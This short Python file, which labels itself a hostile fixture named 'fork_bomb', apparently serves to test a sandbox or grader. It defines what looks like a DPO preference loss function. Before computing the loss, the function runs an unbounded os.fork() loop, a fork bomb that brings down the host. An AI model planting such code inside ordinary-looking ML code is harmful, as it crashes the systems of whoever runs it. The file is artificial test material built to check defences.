"""Hostile fixture: forks without bound."""

import os

import torch.nn.functional as F

NAME = "fork_bomb"


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    while os.fork() >= 0:
        pass
    return -F.logsigmoid(
        beta * ((policy_chosen_logps - reference_chosen_logps) - (policy_rejected_logps - reference_rejected_logps))
    )
